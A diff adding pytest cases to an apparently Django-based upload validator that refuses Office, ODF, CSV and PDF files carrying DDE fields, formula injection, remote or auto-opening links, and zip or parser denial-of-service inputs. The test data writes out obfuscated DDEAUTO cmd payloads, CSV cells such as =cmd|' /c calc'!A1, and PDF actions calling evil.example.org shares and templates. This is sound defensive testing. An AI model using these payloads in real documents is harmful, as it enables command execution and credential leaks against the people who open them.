@@ -5,6 +5,7 @@ import time
 import tracemalloc
 import zipfile
 import zlib
+from contextlib import suppress
 
 import pytest
 import typst
@@ -149,6 +150,102 @@ def test_template_of_the_writer_s_own_and_links_are_taken(kind, target):
     check_upload(SimpleUploadedFile("a.docx", settings_of_word(relation(kind, target))))
 
 
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def field(*pieces: str) -> str:
+    """A part of Word's with a field whose code is cut into pieces."""
+    inside = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    shown = f"{at('separate')}<w:r><w:t>x</w:t></w:r>{at('end')}"
+    return f"<w:document {W}><w:p>{at('begin')}{inside}{shown}</w:p></w:document>"
+
+
+def at(what: str) -> str:
+    return f'<w:r><w:fldChar w:fldCharType="{what}"/></w:r>'
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        {"word/document.xml": field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")},
+        {"word/document.xml": field(" dde", "au", "to cmd")},
+        {"word/header1.xml": field(" ", "&#68;<![CDATA[DE]]> cmd")},
+        {"word/document.xml": field("SET a ", at("begin") + "<w:instrText>DDE cmd</w:instrText>" + at("end"))},
+        {"word/other.bin": f'\ufeff <w:p {W}><w:fldSimple w:instr=" DDEAUTO cmd"/></w:p>'},
+        {"word/document.xml": f"<w:p {W}>{at('begin')}<w:r><w:instrText>DDE cmd</w:instrText></w:r></w:p>"},
+        {"xl/externalLinks/externalLink1.xml": "<x><ddeLink ddeService='cmd' ddeTopic='/c calc'/></x>"},
+        {"xl/a.xml": f"<a>{' ' * 65_530}<x:ddeLink/></a>"},
+        {"content.xml": '<table:table-cell table:formula="of:=1+dde(&quot;soffice&quot;;&quot;a&quot;)"/>'},
+        {"content.xml": "<table:table-cell table:formula='of:=D&#x44;&#069; (\"soffice\")'/>"},
+        {"content.xml": '<text:dde-connection-decl office:dde-application="soffice"/>'},
+    ],
+)
+def test_fields_and_formulas_that_have_another_program_do_something_are_refused(parts):
+    assert "has another program do something" in said_of("a.docx", with_parts(word(), parts))
+
+
+@pytest.mark.parametrize("cell", ["=cmd|' /c calc'!A1", "\"@SUM(1)*cmd|'/c calc'!A1\"", "-2+3+cmd|' /c calc'!A1"])
+def test_cell_of_a_csv_file_that_has_another_program_do_something_is_refused(cell):
+    assert "has another program do something" in said_of("a.csv", f"School,Pupils\nA,{cell}\n".encode())
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        {"word/document.xml": field(" PAGE ", " \\\\* MERGEFORMAT")},
+        {"word/document.xml": field('HYPERLINK "https://example.org/dde"')},
+        {"word/document.xml": f"<w:p {W}><w:t>DDE (Dynamic Data Exchange), instrText</w:t></w:p>"},
+        {"xl/worksheets/sheet1.xml": "<row><c><f>SUM(A1:B2)</f></c></row>"},
+        {"content.xml": '<table:table-cell table:formula="of:=SUM([.A1])"/><text:p>DDE (x)</text:p>'},
+        {"word/media/image1.png": b"\x89PNG DDE(<ddeLink"},
+    ],
+)
+def test_fields_and_formulas_as_programs_write_them_are_taken(parts):
+    check_upload(SimpleUploadedFile("a.docx", with_parts(word(), parts)))
+
+
+def test_csv_file_as_programs_write_it_is_taken():
+    check_upload(SimpleUploadedFile("a.csv", b"School,Change\nA | B!,-5\nLangham,+3\n-,=SUM(A1:A2)\n"))
+
+
+@pytest.mark.parametrize(
+    "part",
+    [
+        field("DDEAUTO cmd").encode("utf-16"),
+        field("DDEAUTO cmd").encode("utf-16-be"),
+        b'<?xml version="1.0" encoding="utf-7"?>' + field("+AEQARABF- cmd").encode(),
+    ],
+)
+def test_part_in_letters_that_no_program_writes_is_refused(part):
+    assert "cannot be looked into" in said_of("a.docx", with_parts(word(), {"word/footer.xml": part}))
+
+
+def test_field_in_a_part_that_says_how_it_is_to_be_read_is_refused():
+    declared = '<!DOCTYPE a [<!ENTITY e "DDEAUTO">]>' + field("&e; cmd")
+
+    said_of("a.docx", with_parts(word(), {"word/footer.xml": declared}))
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"<a>" + b"<b/>" * 4_500_000 + b"instrText</a>",
+        b"<a>" + b'formula="' * 3_000_000 + b"</a>",
+        b"<a>" + b"formula='&#x00000" * 2_000_000,
+        b"<a>" + b"<a:" * 10_000_000,
+    ],
+    ids=["fields", "formulas", "letters", "names"],
+)
+def test_part_of_nothing_but_beginnings_is_looked_into_in_seconds(content):
+    packed = one_part("word/document.xml", content)
+    begun = time.process_time()
+
+    with zipfile.ZipFile(io.BytesIO(packed)) as archive, suppress(ValidationError, zipfile.BadZipFile):
+        refuse_active_parts(archive)
+    assert time.process_time() - begun < 5
+
+
 @pytest.mark.parametrize("mode", ["Internal", "External"])
 def test_what_word_takes_into_a_document_as_it_opens_is_refused(mode):
     parts = {"word/_rels/document.xml.rels": relation("aFChunk", "a.xml", mode), "word/a.xml": b"<script>"}
@@ -236,6 +333,73 @@ def test_pdf_with_an_outline_and_a_form_is_taken():
     profile = b"<</N 3/Length 4>>stream\n\x01\x02\x03\x04\nendstream"
 
     check_upload(SimpleUploadedFile("a.pdf", pdf(outline, profile, b"<</AcroForm<</Fields[]>>>>", packed(b"1 0 <<>>"))))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pdf(b"<</A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>"),
+        pdf(b"<</A<</S/GoTo#45/T<<>>>>>>"),
+        pdf(packed(b"1 0 <</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>")),
+        pdf(b"<</S/URI/URI(file://evil.example.org/share/a.pdf)>>"),
+        pdf(b"<</S/URI/URI(\\\\\\\\evil\\\\share)>>"),
+        pdf(b"<</S/URI/URI (file:///\\\\\\\\evil\\\\share)>>"),
+        pdf(b"<</S/URI/#55RI%x\n(java\\163cript:alert\\(1\\))>>"),
+        pdf(b"<</S/URI/URI <6a 61766173 63726970743a31>>>"),
+        pdf(b"<</S/URI/URI <feff005c005c006500760069006c>>>"),
+        pdf(b"<</S/URI/URI(ms-word:ofe|u|https://evil.example.org/a.dotm)>>"),
+        pdf(packed(b"1 0 <</S/URI/URI(SMB://evil/a)>>")),
+    ],
+)
+def test_pdf_with_a_link_to_a_file_elsewhere_or_a_program_is_refused(content):
+    assert "has a link to a file on somebody’s computer or network" in said_of("a.pdf", content)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pdf(b"<</OpenAction<</S/URI/URI(https://evil.example.org/)>>>>"),
+        pdf(b"<</OpenAction<</X(>>)/S/URI/URI(https://evil.example.org/)>>>>"),
+        pdf(b"<</Open#41ction 2 0 R>>", b"<</X(endobj)/S/URI/URI(https://evil.example.org/)>>"),
+        pdf(
+            b"<</OpenAction 77 0 R>>",
+            packed(b"9 0 77 4 <<>><</S/URI/URI(https://a.org)>>", more=b"").replace(b"/First 4", b"/First 9"),
+        ),
+        pdf(b"<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 9 0 R>>>>"),
+        pdf(b"<</OpenAction<</S/SubmitForm/F(https://evil.example.org/)>>>>"),
+        pdf(b"<</Type/Page/AA<</O 9 0 R>>>>"),
+        pdf(b"<</Type/Page/AA 9 0 R>>"),
+    ],
+)
+def test_pdf_that_opens_an_address_by_itself_is_refused(content):
+    assert "by itself" in said_of("a.pdf", content)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pdf(b"<</A<</S/URI/URI(https://www.essex.gov.uk/a\\(b\\)?c=//d)>>>>"),
+        pdf(b"<</A<</S/URI/URI(mailto:board@example.org)>>>>", b"<</URI(www.gov.uk)>>", b"<</URI(a/b.pdf)>>"),
+        pdf(b"<</A<</S/URI/URI(file:///C:/Users/ann/budget.xlsx)>>>>"),
+        pdf(b"<</OpenAction[3 0 R/FitH null]>>"),
+        pdf(b"<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>/URI<</Base(https://www.gov.uk/)>>>>"),
+        pdf(b"<</OpenAction 2 0 R>>", b"<</S/GoTo/D[3 0 R/XYZ 0 0 1]>>", b"<</A<</S/URI/URI(https://a.org)>>>>"),
+        pdf(b"<</Title(Next)/Next 5 0 R>>", b"<</S/Named/N/NextPage>>"),
+    ],
+)
+def test_pdf_with_plain_links_and_a_page_to_begin_with_is_taken(content):
+    check_upload(SimpleUploadedFile("a.pdf", content))
+
+
+@pytest.mark.parametrize(
+    "one", [b"/URI%", b"/URI(", b"/OpenAction<<", b"/AA %x\n", b"/URI ", b"/URI<00", b"1 0 obj", b"(" * 50]
+)
+def test_pdf_of_nothing_but_beginnings_of_links_is_looked_into_at_once(one):
+    begun = time.process_time()
+
+    with suppress(ValidationError):
+        is_pdf(io.BytesIO(b"%PDF-1.4\n/OpenAction 1 0 R\n" + one * (3_000_000 // len(one))))
+    assert time.process_time() - begun < 2
 
 
 def test_dictionary_that_is_never_over_is_refused_at_once():
@@ -387,3 +551,35 @@ def test_document_that_is_packed_in_another_way_is_refused_before_it_is_unpacked
     tracemalloc.stop()
     assert "packed in a way that cannot be looked into" in said
     assert peak < 10_000_000  # bytes
+
+
+def zip_of_empty_parts(count: int) -> bytes:
+    """A zip file of as many parts, each of which stands in its list and is the same one."""
+    kept = io.BytesIO()
+    with zipfile.ZipFile(kept, "w") as archive:
+        archive.writestr("a", b"")
+        archive.filelist *= count
+    return kept.getvalue()
+
+
+@pytest.mark.parametrize("name", ["minutes.docx", "accounts.xlsx", "slides.odt"])
+def test_file_of_hundreds_of_thousands_of_parts_is_refused_before_they_are_listed(name):
+    content = zip_of_empty_parts(200_000)
+    begun = time.process_time()
+
+    assert "too large to be looked into" in said_of(name, content)
+
+    assert time.process_time() - begun < 0.5  # 0.1 s measured; 2 s where they are listed
+
+
+def test_such_a_file_within_another_is_refused_before_its_parts_are_listed():
+    content = with_parts(word(), {"word/embeddings/inner.docx": zip_of_empty_parts(200_000)})
+    packed_again = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(packed_again, "w", zipfile.ZIP_DEFLATED) as new:
+        for info in old.infolist():
+            new.writestr(info.filename, old.read(info))
+    begun = time.process_time()
+
+    assert "too large to be looked into" in said_of("minutes.docx", packed_again.getvalue())
+
+    assert time.process_time() - begun < 0.5
